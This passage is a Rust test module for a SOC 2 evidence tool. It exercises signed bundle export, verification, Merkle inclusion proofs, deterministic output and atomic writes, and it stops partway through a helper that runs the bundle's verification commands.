//! Bundle tests: export and verify round trips, determinism, atomicity, inclusion proofs,
//! the auditor's stock-tool commands, and one test per rejection: each builds a valid
//! signed bundle, then breaks exactly one thing (re-signing where needed, so that the
//! deeper check is the one that fails).

use std::collections::{BTreeMap, BTreeSet};
use std::ops::ControlFlow;
use std::path::{Path, PathBuf};
use std::process::Command;

use sha2::{Digest, Sha256};
use ssh_key::{HashAlg, LineEnding};

use super::archive::test_support::{RawArchive, RawEntry, extra_field};
use super::archive::{ArchiveError, BundleWriter, Compression, Limits, SafeArchive};
use super::export::blob_member;
use super::*;
use crate::ledger::Locker;
use crate::model::{
    Attachment, AuditPeriod, Collector, Evidence, Note, Payload, Sha256Digest, Timestamp,
};
use crate::progress::ReadProgress;

/// Asserts that `$result` is an `Err` matching `$pat`, and that its message renders.
macro_rules! assert_err {
    ($result:expr, $pat:pat $(if $guard:expr)?) => {
        match $result {
            Err(e) => {
                assert!(
                    matches!(&e, $pat $(if $guard)?),
                    "expected {}, got {e:?} ({e})",
                    stringify!($pat)
                );
                assert!(!e.to_string().is_empty());
            }
            Ok(_) => panic!("expected {}, got Ok", stringify!($pat)),
        }
    };
}

const ORIGIN: &str = "example.com/soc2/acme";

fn period() -> AuditPeriod {
    "2025-01-01..2025-12-31".parse().unwrap()
}

fn note(observed: &str, title: &str, attachments: Vec<Attachment>) -> Evidence {
    let t: Timestamp = observed.parse().unwrap();
    Evidence {
        controls: Vec::new(),
        observed_at: t,
        collected_at: t,
        collector: Collector::Person { id: "cto@example.com".into() },
        source: "manual".into(),
        attachments,
        payload: Payload::Note(Note { title: title.into(), body: String::new() }),
        provenance: None,
    }
}

/// A locker with records before, in and after the 2025 period (all in the past: the
/// locker refuses evidence dated in the future), and attachments of
/// several kinds (one shared by two records), plus a signing key.
struct Fixture {
    dir: tempfile::TempDir,
    locker: Locker,
    signer: Signer,
}

impl Fixture {
    fn new() -> Fixture {
        let dir = tempfile::tempdir().unwrap();
        let mut locker = Locker::init(dir.path().join("locker"), ORIGIN).unwrap();
        let add = |bytes: &[u8], media: &str, name: &str| {
            locker.add_attachment(&mut &bytes[..], media, name).unwrap()
        };
        let policy = add(b"%PDF-1.7 pretend policy", "application/pdf", "policy.pdf");
        let csv_text: Vec<u8> =
            (0..2000).flat_map(|i| format!("user{i},keep,2026-03-28\n").into_bytes()).collect();
        let csv = add(&csv_text, "text/csv", "review.csv");
        let png = add(&[0x89, b'P', b'N', b'G', 1, 2, 3], "image/png", "shot.png");
        let later = add(b"next year", "text/plain", "later.txt");
        let records = vec![
            note("2024-11-15T10:00:00Z", "Security policy approved", vec![policy]),
            note("2025-02-01T09:00:00Z", "Q1 access review", vec![csv.clone()]),
            note("2025-03-01T09:00:00Z", "Tabletop held", Vec::new()),
            note("2025-05-01T09:00:00Z", "Q2 access review", vec![csv, png]),
            note("2026-01-05T09:00:00Z", "After the period", vec![later]),
        ];
        locker.append_batch(records).unwrap();
        let signer = Signer::generate("auditor-contact@example.com").unwrap();
        Fixture { dir, locker, signer }
    }

    fn path(&self, name: &str) -> PathBuf {
        self.dir.path().join(name)
    }

    fn export_to(&self, name: &str) -> PathBuf {
        let out = self.path(name);
        export(&self.locker, &ExportOptions::new(period()), &self.signer, &out).unwrap();
        out
    }

    fn trusted(&self) -> AllowedSigners {
        AllowedSigners::parse(self.signer.allowed_signers_line().as_bytes()).unwrap()
    }

    fn verify(&self, path: &Path) -> Result<VerifiedBundle, BundleError> {
        verify(path, &self.trusted())
    }

    /// A valid bundle's members, to mutate.
    fn members(&self) -> Members {
        let path = self.export_to("valid.zip");
        Members::read(&path)
    }

    /// Writes `members` (re-signed when `resign`) and verifies the result.
    fn check(&self, members: &Members, resign: bool) -> Result<VerifiedBundle, BundleError> {
        let mut members = members.clone();
        if resign {
            members.resign(&self.signer);
        }
        let path = self.path("mutated.zip");
        members.write(&path);
        self.verify(&path)
    }

    /// Builds the raw archive of a valid bundle's members, to break its structure.
    fn raw(&self) -> RawArchive {
        self.members().raw()
    }

    fn check_raw(&self, raw: &RawArchive) -> Result<VerifiedBundle, BundleError> {
        self.check_raw_with(raw, &VerifyOptions::default())
    }

    fn check_raw_with(
        &self,
        raw: &RawArchive,
        options: &VerifyOptions,
    ) -> Result<VerifiedBundle, BundleError> {
        let path = self.path("raw.zip");
        fs_err::write(&path, raw.build()).unwrap();
        verify_with(&path, &self.trusted(), options)
    }
}

/// A bundle's members by name.
#[derive(Clone)]
struct Members(BTreeMap<String, Vec<u8>>);

impl Members {
    fn read(path: &Path) -> Members {
        let archive = SafeArchive::open(path, Limits::default()).unwrap();
        let mut out = BTreeMap::new();
        for m in archive.members() {
            let mut bytes = Vec::new();
            archive.read_to_sink(m.name(), &mut bytes).unwrap();
            out.insert(m.name().to_owned(), bytes);
        }
        Members(out)
    }

    fn get(&self, name: &str) -> &Vec<u8> {
        &self.0[name]
    }

    fn text(&self, name: &str) -> String {
        String::from_utf8(self.0[name].clone()).unwrap()
    }

    fn set(&mut self, name: &str, bytes: impl Into<Vec<u8>>) {
        self.0.insert(name.to_owned(), bytes.into());
    }

    fn remove(&mut self, name: &str) {
        self.0.remove(name).unwrap();
    }

    /// Recomputes `SHA256SUMS` over every other member and signs it with `signer`.
    fn resign(&mut self, signer: &Signer) {
        self.relist();
        let sig = signer.sign(self.get(SUMS)).unwrap();
        self.set(SUMS_SIG, sig);
    }

    /// Recomputes `SHA256SUMS` without re-signing.
    fn relist(&mut self) {
        let listing: Vec<(String, Sha256Digest)> = self
            .0
            .iter()
            .filter(|(n, _)| *n != SUMS && *n != SUMS_SIG)
            .map(|(n, b)| (n.clone(), Sha256Digest(Sha256::digest(b).into())))
            .collect();
        let text = sums::render(listing.iter().map(|(n, d)| (n.as_str(), d)));
        self.set(SUMS, text);
    }

    fn write(&self, path: &Path) {
        let mut w = BundleWriter::create(path).unwrap();
        for (name, bytes) in &self.0 {
            w.add_bytes(name, Compression::Deflated, bytes).unwrap();
        }
        w.finish().unwrap();
    }

    fn raw(&self) -> RawArchive {
        RawArchive::of(self.0.iter().map(|(name, bytes)| RawEntry::stored(name, bytes)).collect())
    }

    fn blob_names(&self) -> Vec<String> {
        self.0.keys().filter(|n| n.starts_with(BLOBS_PREFIX)).cloned().collect()
    }

    /// Edits `manifest.json` as JSON.
    fn edit_manifest(&mut self, f: impl FnOnce(&mut serde_json::Value)) {
        let mut v: serde_json::Value = serde_json::from_slice(self.get(MANIFEST)).unwrap();
        f(&mut v);
        self.set(MANIFEST, crate::json::to_pretty_string(&v).unwrap());
    }
}

fn lines(text: &str) -> Vec<String> {
    text.lines().map(|l| format!("{l}\n")).collect()
}

// ---------------------------------------------------------------- round trip

#[test]
fn export_then_verify_round_trips() {
    let f = Fixture::new();
    let out = f.path("acme-2025.zip");
    let summary = export(&f.locker, &ExportOptions::new(period()), &f.signer, &out).unwrap();
    assert_eq!(summary.records, 3);
    assert_eq!(summary.blobs, 2);
    assert_eq!(summary.checkpoint, f.locker.checkpoint());
    assert_eq!(summary.principal, "auditor-contact@example.com");

    let v = f.verify(&out).unwrap();
    assert_eq!(v.origin, ORIGIN);
    assert_eq!(v.period, period());
    assert_eq!(v.principal, "auditor-contact@example.com");
    assert_eq!(v.fingerprint, f.signer.fingerprint());
    assert_eq!(v.allowed_signers_line, 1);
    assert_eq!(v.record_count(), 3);
    assert_eq!(v.records.iter().map(|r| r.seq).collect::<Vec<_>>(), [1, 2, 3]);
    assert_eq!(v.root(), f.locker.root());
    assert_eq!(v.checkpoint.size, 5);
    assert_eq!(v.leaves(), f.locker.leaf_hashes());
    assert_eq!(v.blobs.len(), 2);
    assert_eq!(v.generator.name, "soc2");
    // Each disclosed record's line is the locker's canonical bytes, and proves itself
    // against the signed checkpoint with nothing but the verified bundle.
    let lines: Vec<(u64, Vec<u8>)> = v.record_lines().map(|(s, l)| (s, l.to_vec())).collect();
    assert_eq!(lines.iter().map(|(s, _)| *s).collect::<Vec<_>>(), [1, 2, 3]);
    for (seq, line) in &lines {
        let bytes = crate::json::to_canonical_vec(&f.locker.record(*seq).unwrap()).unwrap();
        assert_eq!(line, &bytes);
        assert_eq!(v.record_line(*seq), Some(bytes.as_slice()));
        v.inclusion_proof(*seq).unwrap().verify(line, &v.checkpoint).unwrap();
    }
    assert_eq!(v.record_line(0), None, "record 0 is not disclosed");

    let m = Members::read(&out);
    let names: Vec<&str> = m.0.keys().map(String::as_str).collect();
    let mut expected =
        vec![SUMS, SUMS_SIG, VERIFY_MD, ALLOWED_SIGNERS, CHECKPOINT, LEAVES, MANIFEST, RECORDS];
    expected.push(super::VERIFY_PY);
    let blobs = m.blob_names();
    expected.extend(blobs.iter().map(String::as_str));
    expected.sort_unstable();
    assert_eq!(names, expected);
    // Each line exactly the locker's canonical bytes.
    let records = m.text(RECORDS);
    for (line, seq) in records.lines().zip([1u64, 2, 3]) {
        let bytes = crate::json::to_canonical_vec(&f.locker.record(seq).unwrap()).unwrap();
        assert_eq!(line.as_bytes(), bytes.as_slice());
    }
    assert_eq!(m.text(CHECKPOINT), f.locker.checkpoint().to_text());
    assert_eq!(m.get(LEAVES).len(), 5 * 65);
    assert!(m.text(ALLOWED_SIGNERS).starts_with(
        "auditor-contact@example.com namespaces=\"soc2-evidence-bundle-v1,soc2-checkpoint-v1\" ssh-ed25519 "
    ));
    // The private key is nowhere in the bundle, in any encoding.
    let key = f.signer.private_key();
    let seed = key.key_data().ed25519().unwrap().private.to_bytes();
    let pem = key.to_openssh(LineEnding::LF).unwrap();
    let needles = [
        seed.to_vec(),
        hex::encode(seed).into_bytes(),
        pem.lines().nth(2).unwrap().as_bytes().to_vec(),
    ];
    for (name, bytes) in &m.0 {
        assert!(!contains(bytes, b"PRIVATE KEY"), "{name}");
        for needle in &needles {
            assert!(!contains(bytes, needle), "{name}");
        }
    }
}

fn contains(haystack: &[u8], needle: &[u8]) -> bool {
    haystack.windows(needle.len()).any(|w| w == needle)
}

#[test]
fn compression_follows_content() {
    // The fixture's attachments in the period: the CSV (48 KB of text) is deflated, the
    // PNG stored by its media type. Everything else soc2 writes is text, deflated.
    let f = Fixture::new();
    let csv: Vec<u8> =
        (0..2000).flat_map(|i| format!("user{i},keep,2026-03-28\n").into_bytes()).collect();
    let png = [0x89, b'P', b'N', b'G', 1, 2, 3];
    let expected_blobs = BTreeMap::from([
        (blob_member(&sha256_of(&csv)), Compression::Deflated),
        (blob_member(&sha256_of(&png)), Compression::Stored),
    ]);
    let out = f.export_to("b.zip");
    let archive = SafeArchive::open(&out, Limits::default()).unwrap();
    let mut blobs = BTreeMap::new();
    for m in archive.members() {
        if m.name().starts_with(BLOBS_PREFIX) {
            blobs.insert(m.name().to_owned(), m.compression());
        } else {
            assert_eq!(m.compression(), Compression::Deflated, "{}", m.name());
        }
    }
    assert_eq!(blobs, expected_blobs);
}

fn sha256_of(bytes: &[u8]) -> Sha256Digest {
    Sha256Digest(Sha256::digest(bytes).into())
}

/// Bytes from a fixed xorshift generator: incompressible, and the same on every run.
fn noise(len: usize, seed: u64) -> Vec<u8> {
    let mut x = seed | 1;
    (0..len)
        .map(|_| {
            x ^= x << 13;
            x ^= x >> 7;
            x ^= x << 17;
            (x >> 24) as u8
        })
        .collect()
}

/// CSV text of `len` bytes.
fn csv_of(len: usize) -> Vec<u8> {
    let mut out: Vec<u8> = (0..)
        .flat_map(|i: u64| format!("user{i},{},2026-03-{:02}\n", i % 7, i % 28 + 1).into_bytes())
        .take(len)
        .collect();
    out.truncate(len);
    out
}

#[test]
fn the_same_attachment_is_stored_or_deflated_the_same_way_on_every_export() {
    // Attachments on both paths of the export pipeline (up to 8 MiB: read whole and
    // prepared by a helper; larger: streamed), each with the choice its content calls
    // for, whatever its media type says.
    let dir = tempfile::tempdir().unwrap();
    let mut locker = Locker::init(dir.path().join("locker"), ORIGIN).unwrap();
    let json: Vec<u8> = (0..2000)
        .flat_map(|i| {
            format!("{{\"user\":\"u{i}@example.com\",\"mfa\":{}}}\n", i % 3 == 0).into_bytes()
        })
        .collect();
    let mut gzip = Vec::new();
    {
        use std::io::Write;
        let mut e = flate2::write::GzEncoder::new(&mut gzip, flate2::Compression::fast());
        e.write_all(&csv_of(300_000)).unwrap();
        e.finish().unwrap();
    }
    // Only the first block decides: random bytes followed by text are stored.
    let random_then_text = [noise(archive::TRIAL_BLOCK, 9), csv_of(500_000)].concat();
    // What every front end records for a `.bin` (or any unknown extension).
    let octet = crate::ledger::media_type_for("logs.bin");
    assert_eq!(octet, "application/octet-stream");
    let cases: Vec<(&str, &str, Vec<u8>, Compression)> = vec![
        ("noise.bin", octet, noise(300_000, 1), Compression::Stored),
        ("big-noise.bin", octet, noise(9 << 20, 2), Compression::Stored),
        ("review.csv", "text/csv", csv_of(200_000), Compression::Deflated),
        ("users.json", "application/json", json, Compression::Deflated),
        ("export.bin", octet, csv_of(100_000), Compression::Deflated),
        ("big-export.bin", octet, csv_of(9 << 20), Compression::Deflated),
        ("logs.bin", octet, gzip, Compression::Stored),
        ("mixed.bin", octet, random_then_text, Compression::Stored),
        ("tiny.txt", "text/plain", b"ok".to_vec(), Compression::Stored),
        ("empty.bin", octet, Vec::new(), Compression::Stored),
        // Labelled compressed: stored without a trial, even though this is text.
        ("not-really.png", "image/png", csv_of(50_000), Compression::Stored),
    ];
    let mut expected = BTreeMap::new();
    let mut attachments = Vec::new();
    for (name, media, bytes, compression) in &cases {
        attachments.push(locker.add_attachment(&mut &bytes[..], media, name).unwrap());
        expected.insert(blob_member(&sha256_of(bytes)), *compression);
    }
    assert_eq!(expected.len(), cases.len(), "every content differs");
    locker.append_batch(vec![note("2025-02-01T09:00:00Z", "Mixed", attachments)]).unwrap();
    let signer = Signer::generate("auditor-contact@example.com").unwrap();
    let options = ExportOptions::new(period());

    // Once plainly, then twice with the writer pausing at different points so that
    // the helper threads race differently (which helper reads which blob, how far
    // ahead): the bytes, and so every member's method, must not change.
    let plain = dir.path().join("plain.zip");
    export(&locker, &options, &signer, &plain).unwrap();
    let plain = fs_err::read(&plain).unwrap();
    for parity in [0, 1] {
        let out = dir.path().join(format!("paused-{parity}.zip"));
        let mut calls = 0u32;
        export_with_progress(&locker, &options, &signer, &out, &mut |_| {
            calls += 1;
            if calls % 2 == parity {
                std::thread::sleep(std::time::Duration::from_millis(3));
            }
            ControlFlow::Continue(())
        })
        .unwrap();
        assert!(fs_err::read(&out).unwrap() == plain, "export {parity} differs");
    }

    let out = dir.path().join("check.zip");
    fs_err::write(&out, &plain).unwrap();
    let archive = SafeArchive::open(&out, Limits::default()).unwrap();
    let got: BTreeMap<String, Compression> = archive
        .members()
        .iter()
        .filter(|m| m.name().starts_with(BLOBS_PREFIX))
        .map(|m| (m.name().to_owned(), m.compression()))
        .collect();
    for (name, media, bytes, compression) in &cases {
        let member = blob_member(&sha256_of(bytes));
        assert_eq!(got.get(&member), Some(compression), "{name} ({media})");
    }
    assert_eq!(got, expected);
    // And the bundle verifies, stored and deflated members alike.
    let trusted = AllowedSigners::parse(signer.allowed_signers_line().as_bytes()).unwrap();
    let verified = verify(&out, &trusted).unwrap();
    assert_eq!(verified.records.len(), 1);
}

#[test]
fn disclosure_sets() {
    let f = Fixture::new();
    let seqs =
        |out: &Path| -> Vec<u64> { f.verify(out).unwrap().records.iter().map(|r| r.seq).collect() };
    let mut options = ExportOptions::new(period());
    options.disclose = DisclosureSet::ObservedInPeriodAnd(BTreeSet::from([0]));
    let out = f.path("relied.zip");
    let s = export(&f.locker, &options, &f.signer, &out).unwrap();
    assert_eq!(seqs(&out), [0, 1, 2, 3]);
    assert_eq!(s.blobs, 3, "the policy's attachment comes with it");

    options.disclose = DisclosureSet::Exactly(BTreeSet::from([4]));
    export(&f.locker, &options, &f.signer, &out).unwrap();
    assert_eq!(seqs(&out), [4]);

    options.disclose = DisclosureSet::Exactly(BTreeSet::new());
    export(&f.locker, &options, &f.signer, &out).unwrap();
    let v = f.verify(&out).unwrap();
    assert_eq!(v.record_count(), 0);
    assert_eq!(v.checkpoint.size, 5, "the checkpoint still covers the locker");

    options.disclose = DisclosureSet::Exactly(BTreeSet::from([9]));
    assert!(matches!(
        export(&f.locker, &options, &f.signer, &out),
        Err(crate::Error::Ledger(crate::ledger::LedgerError::NoSuchRecord { seq: 9, .. }))
    ));

    // A Type I period discloses the records of that day.
    let day = ExportOptions::new("2025-03-01".parse().unwrap());
    export(&f.locker, &day, &f.signer, &out).unwrap();
    assert_eq!(seqs(&out), [2]);
}

#[test]
fn report_files_go_under_report() {
    let f = Fixture::new();
    let mut options = ExportOptions::new(period());
    options.report_files = vec![
        ("readiness.json".into(), b"{\"ok\":true}\n".to_vec()),
        ("html/index.html".into(), b"<h1>Readiness</h1>".to_vec()),
    ];
    let out = f.path("r.zip");
    export(&f.locker, &options, &f.signer, &out).unwrap();
    let v = f.verify(&out).unwrap();
    let names: Vec<&str> = v.report.iter().map(|r| r.name.as_str()).collect();
    assert_eq!(names, ["report/html/index.html", "report/readiness.json"]);

    for bad in ["../escape", "", "a//b"] {
        options.report_files = vec![(bad.into(), Vec::new())];
        assert!(
            matches!(
                export(&f.locker, &options, &f.signer, &out),
                Err(crate::Error::Bundle(BundleError::InvalidOption { .. }))
            ),
            "{bad:?}"
        );
    }
    options.report_files = vec![("a".into(), Vec::new()), ("a".into(), Vec::new())];
    assert!(export(&f.locker, &options, &f.signer, &out).is_err());
}

#[test]
fn export_is_deterministic() {
    let f = Fixture::new();
    let a = fs_err::read(f.export_to("a.zip")).unwrap();
    let b = fs_err::read(f.export_to("b.zip")).unwrap();
    assert_eq!(a, b);
    // A reopened locker gives the same bytes too.
    let reopened = Locker::open(f.locker.dir()).unwrap();
    let out = f.path("c.zip");
    export(&reopened, &ExportOptions::new(period()), &f.signer, &out).unwrap();
    assert_eq!(a, fs_err::read(&out).unwrap());
    // Another key gives another bundle.
    let other = Signer::generate("auditor-contact@example.com").unwrap();
    export(&f.locker, &ExportOptions::new(period()), &other, &out).unwrap();
    assert_ne!(a, fs_err::read(&out).unwrap());
}

#[cfg(unix)]
#[test]
fn exported_bundle_is_0644() {
    use std::os::unix::fs::PermissionsExt;
    let f = Fixture::new();
    let out = f.export_to("mode.zip");
    let mode = fs_err::metadata(&out).unwrap().permissions().mode();
    assert_eq!(mode & 0o777, 0o644);
}

#[test]
fn corrupt_locker_blob_fails_the_export_and_leaves_nothing() {
    let f = Fixture::new();
    let out_dir = f.path("out");
    fs_err::create_dir(&out_dir).unwrap();
    let out = out_dir.join("bundle.zip");
    fs_err::write(&out, b"previous bundle").unwrap();

    // Same size, different content: only hashing while streaming can tell.
    let record = f.locker.record(1).unwrap();
    let csv = &record.evidence.attachments[0];
    let blob = f.locker.blob_path(&csv.sha256);
    let mut bytes = fs_err::read(&blob).unwrap();
    bytes[10] ^= 1;
    fs_err::write(&blob, &bytes).unwrap();

    let err = export(&f.locker, &ExportOptions::new(period()), &f.signer, &out).unwrap_err();
    assert!(
        matches!(&err, crate::Error::Bundle(BundleError::LockerBlobCorrupt { sha256, .. }) if *sha256 == csv.sha256),
        "{err:?}"
    );
    assert_eq!(fs_err::read(&out).unwrap(), b"previous bundle");
    let left: Vec<_> = fs_err::read_dir(&out_dir).unwrap().collect();
    assert_eq!(left.len(), 1, "a temporary file was left behind");

    // A missing blob, likewise.
    fs_err::remove_file(&blob).unwrap();
    let err = export(&f.locker, &ExportOptions::new(period()), &f.signer, &out).unwrap_err();
    assert!(matches!(&err, crate::Error::Bundle(BundleError::Io { .. })), "{err:?}");
    assert_eq!(fs_err::read_dir(&out_dir).unwrap().count(), 1);
}

#[test]
fn exports_and_verifies_an_empty_locker() {
    let dir = tempfile::tempdir().unwrap();
    let locker = Locker::init(dir.path().join("locker"), ORIGIN).unwrap();
    let signer = Signer::generate("x").unwrap();
    let out = dir.path().join("empty.zip");
    export(&locker, &ExportOptions::new(period()), &signer, &out).unwrap();
    let trusted = AllowedSigners::parse(signer.allowed_signers_line().as_bytes()).unwrap();
    let v = verify(&out, &trusted).unwrap();
    assert_eq!((v.checkpoint.size, v.record_count()), (0, 0));
    assert_eq!(v.root(), crate::ledger::merkle::empty_root());
}

#[test]
fn exports_many_attachments_of_every_size() {
    // More blobs than the pipeline has buffers, some larger than a buffer, some empty.
    let dir = tempfile::tempdir().unwrap();
    let mut locker = Locker::init(dir.path().join("locker"), ORIGIN).unwrap();
    let mut evidence = Vec::new();
    for i in 0..40usize {
        let len = match i % 4 {
            0 => 0,
            1 => 17 + i,
            2 => (1 << 20) + i,
            _ => 3 * (1 << 20) / 2 + i,
        };
        let content: Vec<u8> = (0..len).map(|j| (j * 31 + i) as u8).collect();
        let media = if i % 3 == 0 { "text/plain" } else { "image/png" };
        let a = locker.add_attachment(&mut content.as_slice(), media, "f").unwrap();
        evidence.push(note("2025-06-01T00:00:00Z", &format!("file {i}"), vec![a]));
    }
    locker.append_batch(evidence).unwrap();
    let signer = Signer::generate("x").unwrap();
    let out = dir.path().join("many.zip");
    let summary = export(&locker, &ExportOptions::new(period()), &signer, &out).unwrap();
    // The ten empty attachments are one blob.
    assert_eq!(summary.blobs, 31);
    let trusted = AllowedSigners::parse(signer.allowed_signers_line().as_bytes()).unwrap();
    let v = verify(&out, &trusted).unwrap();
    assert_eq!(v.blobs.len(), 31);
    assert_eq!(v.record_count(), 40);
}

#[test]
fn progress_reaches_the_total() {
    let f = Fixture::new();
    let mut last = None;
    export_with_progress(
        &f.locker,
        &ExportOptions::new(period()),
        &f.signer,
        &f.path("p.zip"),
        &mut |p| {
            // Never backwards, never past the total.
            if let Some(prev) = last {
                let prev: ExportProgress = prev;
                assert!(p.bytes_done >= prev.bytes_done && p.bytes_done <= p.bytes_total);
            }
            last = Some(p);
            ControlFlow::Continue(())
        },
    )
    .unwrap();
    let last = last.unwrap();
    assert_eq!(last.bytes_done, last.bytes_total);
    assert!(last.bytes_total > 40_000);
}

#[test]
fn verification_reports_progress_and_stops_when_asked() {
    let f = Fixture::new();
    let path = f.export_to("v.zip");
    let mut seen: Vec<ReadProgress> = Vec::new();
    let v = verify_with_progress(&path, &f.trusted(), &VerifyOptions::default(), &mut |p| {
        seen.push(p);
        ControlFlow::Continue(())
    })
    .unwrap();
    assert_eq!(v.checkpoint.size, f.locker.len());
    let (first, last) = (seen[0], seen[seen.len() - 1]);
    assert_eq!((first.bytes_done, last.bytes_done), (0, last.bytes_total));
    assert!(seen.windows(2).all(|w| w[0].bytes_done <= w[1].bytes_done));
    assert!(last.bytes_total > 40_000, "{last:?}");

    // A stop at the first report, or at the last (everything hashed), is a cancellation.
    for stop_at in [0, 1] {
        let mut calls = 0;
        let err = verify_with_progress(&path, &f.trusted(), &VerifyOptions::default(), &mut |p| {
            calls += 1;
            let last = p.bytes_done == p.bytes_total && calls > 1;
            if (stop_at == 0 && calls == 1) || (stop_at == 1 && last) {
                ControlFlow::Break(())
            } else {
                ControlFlow::Continue(())
            }
        })
        .unwrap_err();
        assert!(matches!(err, BundleError::Cancelled), "{err}");
    }
}

#[test]
fn a_cancelled_export_leaves_nothing_behind() {
    // Cancelled before the first attachment, after a piece of a streamed one, and after
    // a small text one compressed by a helper: each time the old bundle stays as it was
    // and no temporary file is left.
    let dir = tempfile::tempdir().unwrap();
    let mut locker = Locker::init(dir.path().join("locker"), ORIGIN).unwrap();
    let big: Vec<u8> =
        (0..3 << 20).map(|j: u32| (j.wrapping_mul(2_654_435_761) >> 13) as u8).collect();
    let media = locker.add_attachment(&mut big.as_slice(), "image/png", "big.png").unwrap();
    let text = locker.add_attachment(&mut &b"user,role\n".repeat(500)[..], "text/csv", "u.csv");
    let evidence = vec![
        note("2025-06-01T00:00:00Z", "media", vec![media]),
        note("2025-06-02T00:00:00Z", "text", vec![text.unwrap()]),
    ];
    locker.append_batch(evidence).unwrap();
    let signer = Signer::generate("x").unwrap();
    let out_dir = dir.path().join("out");
    fs_err::create_dir(&out_dir).unwrap();
    let out = out_dir.join("bundle.zip");
    fs_err::write(&out, b"the previous bundle").unwrap();
    for stop_after in [0usize, 1, 2, 3] {
        let mut calls = 0usize;
        let result = export_with_progress(
            &locker,
            &ExportOptions::new(period()),
            &signer,
            &out,
            &mut |_| {
                calls += 1;
                if calls > stop_after { ControlFlow::Break(()) } else { ControlFlow::Continue(()) }
            },
        );
        assert!(
            matches!(result, Err(crate::Error::Bundle(BundleError::Cancelled))),
            "stop after {stop_after}: {result:?}"
        );
        assert_eq!(calls, stop_after + 1, "stops at the first Break");
        assert_eq!(fs_err::read(&out).unwrap(), b"the previous bundle");
        assert_eq!(fs_err::read_dir(&out_dir).unwrap().count(), 1, "no temporary file left");
    }
    // Not cancelled, the same export goes through, with every call accounted for.
    let mut calls = 0usize;
    export_with_progress(&locker, &ExportOptions::new(period()), &signer, &out, &mut |_| {
        calls += 1;
        ControlFlow::Continue(())
    })
    .unwrap();
    assert!(calls > 4, "one at the start, one per piece and per small member: {calls}");
}

#[test]
fn a_relayed_export_stopped_as_it_finishes_leaves_the_target_untouched() {
    // The stop arrives only after the work has written everything (the caller answers
    // the last report late): the bundle must still not be put in place.
    let f = Fixture::new();
    let out = f.path("relayed.zip");
    for existed in [false, true] {
        if existed {
            fs_err::write(&out, b"the previous bundle").unwrap();
        }
        let mut reports = 0;
        let result = export_relayed(
            std::time::Duration::from_millis(5),
            |report| {
                prepare_export(&f.locker, &ExportOptions::new(period()), &f.signer, &out, report)
            },
            &mut |p| match p {
                Some(p) if p.bytes_done == p.bytes_total => {
                    reports += 1;
                    std::thread::sleep(std::time::Duration::from_millis(50));
                    ControlFlow::Break(())
                }
                Some(_) => {
                    reports += 1;
                    ControlFlow::Continue(())
                }
                None => ControlFlow::Continue(()),
            },
        );
        assert!(
            matches!(result, Err(crate::Error::Bundle(BundleError::Cancelled))),
            "existed {existed}: {result:?}"
        );
        assert!(reports >= 2, "the first report and the last");
        if existed {
            assert_eq!(fs_err::read(&out).unwrap(), b"the previous bundle");
        } else {
            assert!(!out.exists(), "no bundle");
        }
        let names: Vec<_> = fs_err::read_dir(f.dir.path())
            .unwrap()
            .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
            .filter(|n| n.ends_with(".partial"))
            .collect();
        assert!(names.is_empty(), "no temporary file left: {names:?}");
    }
    // Answered with Continue throughout, the relayed export is the plain one.
    let summary = export_relayed(
        std::time::Duration::from_millis(5),
        |report| prepare_export(&f.locker, &ExportOptions::new(period()), &f.signer, &out, report),
        &mut |_| ControlFlow::Continue(()),
    )
    .unwrap();
    assert_eq!(summary.path, out);
    assert_eq!(fs_err::read(&out).unwrap(), fs_err::read(f.export_to("plain.zip")).unwrap());
    f.verify(&out).unwrap();
}

// ---------------------------------------------------------------- inclusion proofs

#[test]
fn inclusion_proofs_for_disclosed_records() {
    let f = Fixture::new();
    let out = f.export_to("p.zip");
    let v = f.verify(&out).unwrap();
    let m = Members::read(&out);
    let records = m.text(RECORDS);
    for (line, seq) in records.lines().zip([1u64, 2, 3]) {
        let proof = v.inclusion_proof(seq).unwrap();
        proof.verify(line.as_bytes(), &v.checkpoint).unwrap();
        // Round-trips as JSON, and matches the locker's own proof.
        let json = crate::json::to_canonical_vec(&proof).unwrap();
        let back: InclusionProof = crate::json::from_json_slice(&json).unwrap();
        assert_eq!(back, proof);
        assert_eq!(InclusionProof::from_locker(&f.locker, seq).unwrap(), proof);
    }
    assert_err!(v.inclusion_proof(0), BundleError::RecordNotDisclosed { seq: 0 });

    let line2 = records.lines().nth(1).unwrap();
    let proof = v.inclusion_proof(2).unwrap();
    // Another record's line, a tampered line, a tampered path, another checkpoint.
    assert_err!(
        proof.verify(records.lines().next().unwrap().as_bytes(), &v.checkpoint),
        BundleError::InclusionProof { seq: 2, .. }
    );
    let tampered = line2.replace("Tabletop held", "Tabletop hold");
    assert_err!(
        proof.verify(tampered.as_bytes(), &v.checkpoint),
        BundleError::InclusionProof { .. }
    );
    let mut bad = proof.clone();
    bad.path[0].0[0] ^= 1;
    assert_err!(bad.verify(line2.as_bytes(), &v.checkpoint), BundleError::InclusionProof { .. });
    let mut other = v.checkpoint.clone();
    other.size += 1;
    assert_err!(proof.verify(line2.as_bytes(), &other), BundleError::InclusionProof { .. });
}

// ---------------------------------------------------------------- stock tools

fn have(tool: &str) -> bool {
    Command::new("sh")
        .arg("-c")
        .arg(format!("command -v {tool}"))
        .output()
        .is_ok_and(|o| o.status.success())
}

/// Whether the stock tools are present; when they are not, the test is skipped unless
/// `SOC2_REQUIRE_STOCK_TOOLS` is set (as `scripts/test.sh` does after installing them).
fn stock_tools(tools: &[&str]) -> bool {
    let missing: Vec<&str> = tools.iter().copied().filter(|t| !have(t)).collect();
    if missing.is_empty() {
        return true;
    }
    assert!(
        std::env::var_os("SOC2_REQUIRE_STOCK_TOOLS").is_none(),
        "stock tools missing: {missing:?}"
    );
    eprintln!("SKIPPED: stock tools missing: {missing:?} (scripts/test.sh installs them)");
    false
}

/// The ```` ```sh ```` blocks of `VERIFY.md`, in order.
fn sh_blocks(verify_md: &str) -> Vec<String> {
    let mut out = Vec::new();
    let mut current: Option<String> = None;
    for line in verify_md.lines() {
        match (&mut current, line) {
            (None, "```sh") => current = Some(String::new()),
            (Some(_), "```") => out.extend(current.take()),
            (Some(block), l) => {
                block.push_str(l);
                block.push('\n');
            }
            (None, _) => {}
        }
    }
    out
}

/// Runs VERIFY.md's commands, exactly, in one bash; returns (success, stdout, stderr).
fn run_verify_md(bundle: &Path, trusted: &Path, work: &Path) -> (bool, String, String) {
    let m = Members::read(bundle);
    let script = format!("set -euo pipefail\n{}", sh_blocks(&m.text(VERIFY_MD)).join(""));
    let out = Command::new("bash")
        .arg("-c")
        .arg(script)
        .current_dir(work)
        .env("BUNDLE", bundle)
        .env("TRUSTED", trusted)
